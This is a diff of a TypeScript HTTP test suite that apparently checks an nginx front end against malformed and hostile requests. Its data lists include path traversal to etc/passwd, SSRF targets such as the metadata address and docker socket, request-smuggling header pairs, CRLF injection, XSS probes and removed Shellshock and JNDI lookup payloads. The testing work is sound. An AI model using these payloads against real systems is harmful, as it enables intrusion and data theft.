@@ -51,14 +51,11 @@ const briefly: RawClient = { quietMs: 1_000 };
 function requestLines(): Row[] {
   const after = "Host: localhost\r\nConnection: close\r\n\r\n";
   const bad = listOf(`
-    GET¦GET  ¦ GET / HTTP/1.1¦\tGET / HTTP/1.1¦GET\t/\tHTTP/1.1¦GET / HTTP¦GET / HTTP/¦GET / HTTP/1¦
-    GET / HTTP/1.¦GET / HTTP/.1¦GET / HTTP/1.1.1¦GET / HTTP/-1.1¦GET / HTTP/+1.1¦GET / HTTP/1,1¦
-    GET / HTTP/1.x¦GET / HTTP/1.1x¦GET / HTTP/1.1 x¦GET / http/1.1¦GET / HTTP /1.1¦GET / HTP/1.1¦
-    GET / HTTPS/1.1¦GET / XTTP/1.1¦GET / RTSP/1.0¦GET / SIP/2.0¦GET / ICY/1.0¦GET / HTTP/1.1\r¦
-    GET /\rHTTP/1.1¦GET /\0 HTTP/1.1¦GET /\x01 HTTP/1.1¦GET /\x1b[2J HTTP/1.1¦GET /\x7f HTTP/1.1¦
-    G\0ET / HTTP/1.1¦GET\0 / HTTP/1.1¦GE(T / HTTP/1.1¦GET, / HTTP/1.1¦"GET" / HTTP/1.1¦
-    G\u00c9T / HTTP/1.1¦\u00ff\u00fe\u00fd¦/ GET HTTP/1.1¦HTTP/1.1 GET /¦HTTP/1.1 200 OK¦: /¦{}¦
-    <xml/>¦0¦-1¦Host: localhost¦GET / HTTP/0.8¦GET / HTTP/1.1000000000000000000000
+    GET¦GET  ¦ GET / HTTP/1.1¦GET\t/\tHTTP/1.1¦GET / HTTP¦GET / HTTP/¦GET / HTTP/1¦GET / HTTP/1.¦
+    GET / HTTP/1.1.1¦GET / HTTP/-1.1¦GET / HTTP/1,1¦GET / HTTP/1.1x¦GET / HTTP/1.1 x¦GET / http/1.1¦
+    GET / HTTP /1.1¦GET / HTTPS/1.1¦GET / HTTP/1.1\r¦GET /\rHTTP/1.1¦GET /\0 HTTP/1.1¦
+    GET /\x1b[2J HTTP/1.1¦GET /\x7f HTTP/1.1¦G\0ET / HTTP/1.1¦GE(T / HTTP/1.1¦\u00ff\u00fe\u00fd¦
+    HTTP/1.1 200 OK¦Host: localhost¦GET / HTTP/0.8¦GET / HTTP/1.1000000000000000000000
   `);
   // Unusual, but unambiguous
   const understood = listOf(`
@@ -84,14 +81,9 @@ function otherProtocols(): Row[] {
   const clientHello = `\x16\x03\x01\0\x2f\x01\0\0\x2b\x03\x03${"Z".repeat(32)}\0\0\x04\x13\x01\x13\x02`;
   const http2 = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
   const refused = listOf(`
-    ${clientHello}¦\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10\x01\x00\x80¦
-    SSH-2.0-OpenSSH_9.9\r\n¦EHLO foreign.example\r\n¦*1\r\n$4\r\nPING\r\n¦PING\r\n¦\x05\x01\x00¦
-    \x04\x01\x00\x50\x7f\x00\x00\x01\x00¦
-    \x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00¦
+    ${clientHello}¦SSH-2.0-OpenSSH_9.9\r\n¦EHLO foreign.example\r\n¦PING\r\n¦
     PROXY TCP4 1.2.3.4 5.6.7.8 1 80\r\n${get("/")}¦
-    \r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c${"\x01".repeat(12)}${get("/")}¦
-    \x00\x00\x00\x85\xff\x53\x4d\x42\x72\x00\x00\x00\x00¦stats\r\n¦
-    ${"\0".repeat(64)}¦${"\xff".repeat(64)}
+    \r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c${"\x01".repeat(12)}${get("/")}¦${"\0".repeat(64)}
   `);
   const h2c = listOf(
     "Upgrade: h2c¦Connection: Upgrade, HTTP2-Settings¦HTTP2-Settings: AAMAAABkAAQAAP__",
@@ -110,10 +102,9 @@ function otherProtocols(): Row[] {
 
 function methods(): Row[] {
   const known = listOf(`
-    POST¦PUT¦PATCH¦DELETE¦TRACE¦TRACK¦DEBUG¦PROPFIND¦PROPPATCH¦MKCOL¦COPY¦MOVE¦LOCK¦UNLOCK¦SEARCH¦
-    PURGE¦LINK¦UNLINK¦FOO¦GETS¦HEADER¦M-SEARCH¦VERSION_CONTROL
+    POST¦PUT¦PATCH¦DELETE¦TRACE¦PROPFIND¦MKCOL¦MOVE¦LOCK¦FOO¦GETS¦HEADER¦M-SEARCH¦VERSION_CONTROL
   `);
-  const bad = listOf("CONNECT¦get¦Get¦gEt¦post¦delete¦trace¦head¦options");
+  const bad = listOf("CONNECT¦get¦Get¦gEt¦options");
   return ["/", "/api/hello", "/nothing", "/api/nothing"].flatMap((target) =>
     rowsOf(
       { "405": known, "400": bad },
@@ -125,20 +116,17 @@ function methods(): Row[] {
 /** The length of the body is given twice, wrongly, or so that two readers could disagree. */
 function framing(): Row[] {
   const lengths = listOf(`
-    -1¦+5¦5 5¦5, 5¦5,6¦0x5¦5.0¦5e0¦five¦¦\u0665¦5\0¦\x0b5¦99999999999999999999¦9223372036854775808¦
-    18446744073709551621¦5;x¦"5"¦0 5
+    -1¦+5¦5 5¦5, 5¦0x5¦¦\u0665¦5\0¦\x0b5¦9223372036854775808¦18446744073709551621
   `);
   const encodings = listOf(`
-    identity¦gzip¦gzip, chunked¦chunked, gzip¦chunked, identity¦xchunked¦¦identity, chunked¦
-    chunked, chunked¦chunked;q=1¦"chunked"¦'chunked'¦chunk¦chunked\0¦\x0bchunked¦chunked\x0b¦
-    chunked,¦,chunked¦cow, chunked¦\u00a0chunked¦chunked\r\n , identity¦\r\n chunked¦CHUNKED, x
+    identity¦gzip, chunked¦chunked, identity¦xchunked¦¦chunked, chunked¦chunked;q=1¦"chunked"¦chunk¦
+    chunked\0¦\x0bchunked¦chunked\x0b¦\u00a0chunked¦chunked\r\n , identity¦\r\n chunked
   `);
   const names = listOf(`
     Transfer-Encoding : chunked¦ Transfer-Encoding: chunked¦Transfer-Encoding\t: chunked¦
     Transfer-Encoding\0: chunked¦Transfer Encoding: chunked¦X: x\rTransfer-Encoding: chunked¦
     Transfer-\r\n Encoding: chunked¦\x0bTransfer-Encoding: chunked¦Transfer-Encoding\x0b: chunked¦
-    Content-Length : 5¦ Content-Length: 5¦Content-Length\0: 5¦X: x\rContent-Length: 5¦
-    Content-\r\n Length: 5¦Content Length: 5
+    Content-Length : 5¦ Content-Length: 5¦Content-Length\0: 5¦X: x\rContent-Length: 5
   `);
   // nginx neither understands these names nor passes them on
   const ignored = listOf(
@@ -149,8 +137,7 @@ function framing(): Row[] {
   const pairs = listOf(`
     Content-Length: 5|Content-Length: 5¦Content-Length: 5|Content-Length: 6¦
     Content-Length: 0|${long}¦${long}|Content-Length: 0¦Transfer-Encoding: chunked|${long}¦
-    ${long}|Transfer-Encoding: chunked¦Transfer-Encoding: chunked|Content-Length: 5¦
-    Content-Length: 5|Transfer-Encoding: chunked¦Content-Length: 0|Transfer-Encoding: chunked¦
+    ${long}|Transfer-Encoding: chunked¦Content-Length: 0|Transfer-Encoding: chunked¦
     Transfer-Encoding: chunked|Transfer-Encoding: chunked¦
     Transfer-Encoding: chunked|Transfer-Encoding: identity¦
     Transfer-Encoding: identity|Transfer-Encoding: chunked¦
@@ -180,7 +167,7 @@ function framing(): Row[] {
     ...["GET /api/hello", "POST /api/hello", "GET /", "OPTIONS /api/hello"].flatMap((start) =>
       rowsOf({ "400": bad, [unknown]: notKnown }, on(start, body), briefly),
     ),
-    ...rowsOf({ "400": pairs }, on("HEAD /api/hello", body), { ...briefly, heads: 1 }),
+    ...rowsOf({ "400": pairs }, on("HEAD /api/hello", body), briefly),
     ...rowsOf({ "200 400": ignored, "413": measured }, onGet(body), briefly),
     ...rowsOf({ "405 400": ignored }, onPost(body), briefly),
     ...rowsOf({ "411 404": chunked }, onGet(`0\r\n\r\n${next}`), briefly),
@@ -200,13 +187,12 @@ function framing(): Row[] {
 
 function chunking(): Row[] {
   const bodies = listOf(`
-    zz\r\nhello\r\n0\r\n\r\n¦-5\r\nhello\r\n0\r\n\r\n¦+5\r\nhello\r\n0\r\n\r\n¦
-    0x5\r\nhello\r\n0\r\n\r\n¦ffffffffffffffff\r\nhello\r\n¦fffffffffffffffff\r\nhello\r\n¦
-    8000000000000000\r\nhello\r\n¦7fffffffffffffff\r\nhello\r\n¦\r\nhello\r\n0\r\n\r\n¦
+    -5\r\nhello\r\n0\r\n\r\n¦0x5\r\nhello\r\n0\r\n\r\n¦fffffffffffffffff\r\nhello\r\n¦
+    7fffffffffffffff\r\nhello\r\n¦\r\nhello\r\n0\r\n\r\n¦
     5\r\nhelloX\r\n0\r\n\r\n¦5\r\nhello0\r\n\r\n¦5 \r\nhello\r\n0\r\n\r\n¦5\nhello\n0\n\n¦
     5\rhello\r0\r\r¦5;a=b\r\nhello\r\n0\r\n\r\n¦5;\r\nhello\r\n0\r\n\r\n¦
     5;a="\r\n"\r\nhello\r\n0\r\n\r\n¦5\0\r\nhello\r\n0\r\n\r\n¦
-    ${"0".repeat(30)}5\r\nhello\r\n0\r\n\r\n¦${"0".repeat(5_000)}5\r\nhello\r\n0\r\n\r\n¦
+    ${"0".repeat(5_000)}5\r\nhello\r\n0\r\n\r\n¦
     5;${"x".repeat(20_000)}\r\nhello\r\n0\r\n\r\n¦3\r\nhello\r\n0\r\n\r\n¦
     0\r\nHost: ${foreignHost}\r\n\r\n¦0\r\nContent-Length: 99\r\n\r\n¦
     0\r\nTransfer-Encoding: chunked\r\n\r\n¦0\r\n${"X: y\r\n".repeat(3_000)}\r\n¦0\r\n${hidden}¦
@@ -270,40 +256,42 @@ function oversized(): Row[] {
   ];
 }
 
-function traversal(): Row[] {
+function targets(): Row[] {
   const up = listOf(`
-    ../¦..%2f¦%2e%2e/¦%2e%2e%2f¦.%2e/¦%2E./¦..\\¦..%5c¦%2e%2e%5c¦%252e%252e/¦..%252f¦
-    %252e%252e%252f¦%25252e%25252e%25252f¦..%255c¦..%c0%af¦%c0%ae%c0%ae/¦%c0%ae%c0%ae%c0%af¦
-    ..%c1%9c¦%e0%80%ae%e0%80%ae%e0%80%af¦%f0%80%80%ae%f0%80%80%ae/¦..\xc0\xaf¦\xc0\xae\xc0\xae/¦
-    %u002e%u002e%u2215¦%uff0e%uff0e/¦..;/¦..;x=y/¦..%3b/¦....//¦..././¦.../¦..%00/¦..\0/¦..%0a/¦
-    ..%09/¦..%20/¦..//¦./../¦/../¦%2f..%2f¦..%ef%bc%8f¦\u00ef\u00bc\u008e\u00ef\u00bc\u008e/
+    ../¦..%2f¦%2e%2e/¦%2e%2e%2f¦.%2e/¦..\\¦..%5c¦%252e%252e/¦..%252f¦%25252e%25252e%25252f¦..%255c¦
+    ..%c0%af¦%c0%ae%c0%ae/¦%e0%80%ae%e0%80%ae%e0%80%af¦\xc0\xae\xc0\xae/¦%u002e%u002e%u2215¦..;/¦
+    ....//¦..././¦..%00/¦..\0/¦..%0a/¦..%20/¦..//¦./../¦/../¦%2f..%2f¦..%ef%bc%8f
   `);
-  const targets = ["etc/passwd", "etc/nginx/conf.d/default.conf", "app/package.json"];
+  const files = ["etc/passwd", "etc/nginx/conf.d/default.conf", "app/package.json"];
   const starts = ["/", "/images/", "/api/", "/api/hello/"];
   const everywhere = starts.flatMap((start) =>
-    targets.flatMap((target) => up.map((step) => `${start}${step.repeat(6)}${target}`)),
+    files.flatMap((file) => up.map((step) => `${start}${step.repeat(6)}${file}`)),
   );
   // One step up; the rest is a query or a fragment. That is the front page
   const cut = ["/images/", "/api/"].flatMap((start) =>
     ["..?/", "..#/"].map((step) => `${start}${step.repeat(6)}etc/passwd`),
   );
+  // Wrong paths, and targets in other forms than a path
   const others: ByOutcome = {
     "404": listOf(`
-      /.git/config¦/.env¦/.htaccess¦/Dockerfile¦/package.json¦/softy-pinko-front-end.conf¦
-      /index.html~¦/index.html.bak¦/.index.html.swp¦/index.html%20¦/index.html/¦/index.html/x¦
-      /index.html.¦/INDEX.HTML¦/index.html;x¦/index.html%3fx¦/index.html::$DATA¦//${foreignHost}¦
+      /.git/config¦/Dockerfile¦/package.json¦/softy-pinko-front-end.conf¦/index.html%20¦/index.html/¦
+      /index.html/x¦/INDEX.HTML¦/index.html;x¦/index.html%3fx¦//${foreignHost}¦
       /\\${foreignHost}¦/%5c${foreignHost}¦/%2f%2f${foreignHost}¦/\\images¦
       /images%0d%0aX-Injected:%20yes¦/%0d%0a%0d%0a¦/api¦/api/¦/api/hello/¦/api/hello/..¦/api/hello/../hello¦
       /api//hello¦/api/./hello¦/api/%68ello¦/api/hello%2f¦/api/hello;x¦/api/hello%3fx¦
       /api/hello%0d%0aX-Injected:%20yes¦/%61pi/hello¦/API/hello¦/api%2fhello¦//api/hello¦
       /images/../api/hello¦/images/..%2fapi/hello¦/apix¦/api.hello¦/health/../api/health¦/health/¦
-      /api/health¦/%c3%28¦/%ff¦/\xff¦/api/%c0%af¦/api/%ff¦/nginx_status¦/server-status¦
-      /cgi-bin/x.sh¦/wp-login.php¦/actuator/env¦/metrics¦/debug/pprof/¦
-      /index.php?file=../../../etc/passwd
+      /api/health¦/%ff¦/\xff¦/api/%c0%af¦/nginx_status¦/index.php?file=../../../etc/passwd¦
+      gopher://localhost:70/x¦http://169.254.169.254/latest/meta-data/¦
+      http://127.0.0.1:2375/version¦http://unix:/var/run/docker.sock:/version
     `),
     "400": listOf(`
       /index.html%00.txt¦/index.html\0¦/images/../../index.html¦/api/hello%00¦/%¦/%2¦/%zz¦/%00¦
-      /api/%¦/api/%zz¦/api/\xff¦/../../../../../../proc/self/environ
+      /api/%¦/api/%zz¦/api/\xff¦/../../../../../../proc/self/environ¦
+      http://user:pw@localhost/¦http://localhost@${foreignHost}/¦http:///¦http://¦http:/¦http:¦
+      file:///etc/passwd¦javascript:alert(1)¦http://localhost/../../etc/passwd¦http://localhost%00/¦
+      localhost:80¦localhost¦*¦?¦?x¦#¦#x¦api/hello¦..¦../etc/passwd¦\\¦@back-end:5252/health¦
+      :5252/health¦@front-end-away¦@back-end-again
     `),
     "301": listOf(`/images¦//images¦/%2fimages¦/./images¦/images?x=//a`),
     "403": listOf(`/images/¦/images/.¦/images%2f¦/images/%0aX-Injected:x/..`),
@@ -312,7 +300,10 @@ function traversal(): Row[] {
       /.//index.html¦/./index.html¦/images//hero.svg¦//${foreignHost}/..¦//${foreignHost}/%2e%2e¦
       /api/..¦/api/../¦/api/../index.html¦/api/%2e%2e/index.html¦/api/hello/../../index.html¦
       /api/../health¦/?%zz¦/api/hello?%zz¦/api/hello?a[__proto__]=1&__proto__[x]=1¦
-      /api/hello?a=%00
+      /api/hello?a=%00¦http://${foreignHost}/¦http://${foreignHost}/api/hello¦http://${foreignHost}¦
+      http://localhost/api/hello¦https://localhost/¦HTTP://localhost/¦http://localhost:81/¦
+      http://[::1]/¦ftp://localhost/¦http://back-end:5252/health¦http://back-end:5252/api/hello¦/#x¦
+      /#/../..
     `),
   };
   return [
@@ -326,9 +317,9 @@ function hosts(): Row[] {
     message("GET / HTTP/1.1", ...lines, "Connection: close");
   const values: ByOutcome = {
     "400": listOf(`
-      ¦ ¦a b¦local/host¦local\\host¦localhost:80:80¦localhost:abc¦localhost:99999¦[::1¦::1¦
-      user@localhost¦localhost, localhost¦localhost?¦localhost#x¦..¦.¦localhost..¦localhost\0¦\0¦
-      \x01¦localhost\t¦<script>alert(1)</script>¦{{7*7}}¦a\u00ffb¦'; --¦unix:/var/run/docker.sock
+      ¦ ¦a b¦local/host¦local\\host¦localhost:80:80¦localhost:99999¦[::1¦::1¦user@localhost¦
+      localhost, localhost¦localhost?¦..¦.¦localhost\0¦\x01¦localhost\t¦<script>alert(1)</script>¦
+      a\u00ffb¦unix:/var/run/docker.sock
     `),
     "200": listOf(`
       localhost:¦[::1]¦[::1]:80¦%00¦127.0.0.1¦0x7f.1¦LOCALHOST¦localhost.¦*¦_¦-¦169.254.169.254¦
@@ -361,33 +352,14 @@ function hosts(): Row[] {
   ];
 }
 
-function forms(): Row[] {
+function tunnels(): Row[] {
   const targets: ByOutcome = {
-    "200": listOf(`
-      http://${foreignHost}/¦http://${foreignHost}/api/hello¦http://${foreignHost}¦
-      http://localhost/api/hello¦https://localhost/¦HTTP://localhost/¦http://localhost:81/¦
-      http://[::1]/¦ftp://localhost/¦http://back-end:5252/health¦http://back-end:5252/api/hello¦/#x¦
-      /#/../..
-    `),
-    "400": listOf(`
-      http://user:pw@localhost/¦http://localhost@${foreignHost}/¦http:///¦http://¦http:/¦http:¦
-      file:///etc/passwd¦javascript:alert(1)¦http://localhost/../../etc/passwd¦http://localhost%00/¦
-      localhost:80¦localhost¦*¦?¦?x¦#¦#x¦api/hello¦..¦../etc/passwd¦\\¦@back-end:5252/health¦
-      :5252/health¦@front-end-away¦@back-end-again
-    `),
-    "404": listOf(`
-      gopher://localhost:70/x¦http://169.254.169.254/latest/meta-data/¦
-      http://127.0.0.1:2375/version¦http://unix:/var/run/docker.sock:/version
-    `),
-  };
-  const tunnels: ByOutcome = {
     "400": ["/", "*", `http://${foreignHost}/`],
     "405": [`${foreignHost}:443`, "back-end:5252", "127.0.0.1:22"],
   };
   return [
-    ...rowsOf(targets, (target) => get(target)),
     ...rowsOf(
-      tunnels,
+      targets,
       (target) => message(`CONNECT ${target} HTTP/1.1`, `Host: ${target}`) + hidden,
       briefly,
     ),
@@ -403,34 +375,24 @@ function headers(): Row[] {
   const forged = `x\n9.9.9.9 - - [now] "GET ${smuggled}in-the-log HTTP/1.1" 200 13`;
   const lines: Record<string, readonly string[]> = {
     "400 / 400": listOf(`
-      no colon¦: no name¦\0: x¦X\0: x¦X: \0¦X: a\0b¦X Y: x¦X\t: x¦X : x¦ X: x¦\tX: x¦X: a\rb¦
-      X: a\r b¦X: a\r\n b¦X: a\r\n\tb¦X: a\r\r${hidden}¦Connection: \0¦
-      If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT\0¦Accept-Encoding: \0¦Content-Type: \0¦
-      X-Forwarded-For: \0¦Authorization: Basic \0¦HTTP/1.1 200 OK¦GET / HTTP/1.1
+      no colon¦: no name¦\0: x¦X\0: x¦X: a\0b¦X Y: x¦X\t: x¦X : x¦ X: x¦\tX: x¦X: a\rb¦X: a\r b¦
+      X: a\r\n b¦X: a\r\n\tb¦X: a\r\r${hidden}¦Connection: \0¦Authorization: Basic \0¦GET / HTTP/1.1
     `),
     "200 / 200": listOf(`
       ¦X(: x¦X\u00e4: x¦X: \u00e4¦X: a\r¦X: a\nb: c¦X: a\n\n${hidden}¦
-      X: %0d%0a%0d%0a${smuggled}${nameless}¦"X": x¦X/Y: x¦X@Y: x¦{X}: x¦Connection: Host¦
-      Connection: close, Host, Content-Length, X-Forwarded-For¦Connection: X-Forwarded-For¦
-      Keep-Alive: timeout=-1, max=99999999999¦TE: trailers¦Trailer: Host¦Upgrade: h2c, websocket¦
-      Via: 1.1 x¦Max-Forwards: 0¦Max-Forwards: -1¦Range: lines=1-2¦
+      X: %0d%0a%0d%0a${smuggled}${nameless}¦"X": x¦Connection: Host¦
+      Connection: close, Host, Content-Length, X-Forwarded-For¦Keep-Alive: timeout=-1, max=9999999¦
+      TE: trailers¦Trailer: Host¦Upgrade: h2c, websocket¦Via: 1.1 x¦Max-Forwards: -1¦Range: lines=1-2¦
       Range: bytes=0-${",0-".repeat(1_000)}¦If-Modified-Since: yesterday¦If-None-Match: "¦
       If-Range: x¦Accept-Encoding: gzip;q=-1, *;q=999¦Accept: */*;q=99999999999999999999¦
-      Accept: \x80¦Accept-Language: ../../etc/passwd¦Accept-Charset: x¦
-      Content-Type: multipart/form-data¦Content-Encoding: gzip¦Content-Disposition: x¦Cookie: =;=;;¦
-      Origin: null¦Origin: http://${foreignHost}¦Access-Control-Request-Method: DELETE¦
-      X-HTTP-Method-Override: DELETE¦X-HTTP-Method: PUT¦X-Method-Override: POST¦
-      X-Original-URL: /health¦X-Rewrite-URL: /health¦X-Accel-Redirect: /etc/passwd¦
-      X-Sendfile: /etc/passwd¦X-Accel-Buffering: no¦X-Accel-Limit-Rate: 1¦
-      Proxy: http://foreign.example¦Proxy-Connection: keep-alive¦Proxy-Authorization: Basic x¦
-      Front-End-Https: on¦X-Forwarded-Proto: gopher¦X-Forwarded-For: 1.2.3.4¦
+      Accept: \x80¦Content-Type: multipart/form-data¦Content-Encoding: gzip¦Cookie: =;=;;¦
+      Origin: http://${foreignHost}¦Access-Control-Request-Method: DELETE¦
+      X-HTTP-Method-Override: DELETE¦X-Original-URL: /health¦X-Accel-Redirect: /etc/passwd¦
+      X-Accel-Limit-Rate: 1¦Proxy: http://foreign.example¦X-Forwarded-Proto: gopher¦
       X-Forwarded-For: ${"1.2.3.4, ".repeat(500)}¦Forwarded: for="_x";host=foreign.example¦
-      X-Real-IP: 1.2.3.4¦True-Client-IP: 1.2.3.4¦User-Agent: () { :;}; echo X-Injected: yes¦
-      User-Agent: \x24{jndi:ldap://foreign.example/a}¦User-Agent: <script>alert(1)</script>¦
-      User-Agent: %n%n%n%s¦Referer: javascript:alert(1)¦Authorization: Basic¦
-      Authorization: Basic !!!¦${basic("user:password")}¦${basic(forged)}¦${basic(`${forged}:x`)}¦
-      ${basic("\0:\0")}¦${basic("\x1b[2J:x")}¦Authorization: Bearer ${"x".repeat(4_000)}¦Date: x¦
-      Expires: 0¦Server: x¦Set-Cookie: a=b¦Location: http://foreign.example/¦Status: 500¦
+      User-Agent: <script>alert(1)</script>¦User-Agent: %n%n%n%s¦Authorization: Basic !!!¦
+      ${basic("user:password")}¦${basic(forged)}¦${basic(`${forged}:x`)}¦${basic("\0:\0")}¦
+      ${basic("\x1b[2J:x")}¦Set-Cookie: a=b¦Location: http://foreign.example/¦Status: 500¦
       Content-Length: 0
     `),
     "200 / 400": ["X: \x01\x02", "X: \x7f", "Cookie: \x01"],
@@ -485,16 +447,16 @@ function pipelines(): Row[] {
     ],
     "405 open": [`X${hidden}`],
   };
-  const after = (status: string, start: string, client = briefly): Row[] =>
+  const after = (status: string, start: string): Row[] =>
     Object.entries(garbage).flatMap(([expected, list]) =>
-      rowsOf({ [`${status} ${expected}`]: list }, (bytes) => start + bytes, client),
+      rowsOf({ [`${status} ${expected}`]: list }, (bytes) => start + bytes, briefly),
     );
   const page = request("GET /");
   const api = request(`GET ${pipelined}${nameless}`);
   return [
     ...after("200", page),
     ...after("404", api),
-    ...after("200", request("HEAD /"), { ...briefly, heads: 1 }),
+    ...after("200", request("HEAD /")),
     // Ordinary pipelining: each request is served once
     [api + next.replace("pipelined-", "pipelined-second-"), "404 404"],
     [page + next, "200 404"],
@@ -515,9 +477,9 @@ export const groups = {
   framing,
   chunking,
   oversized,
-  traversal,
+  target: targets,
   host: hosts,
-  form: forms,
+  tunnel: tunnels,
   header: headers,
   "early close": earlyCloses,
   pipeline: pipelines,
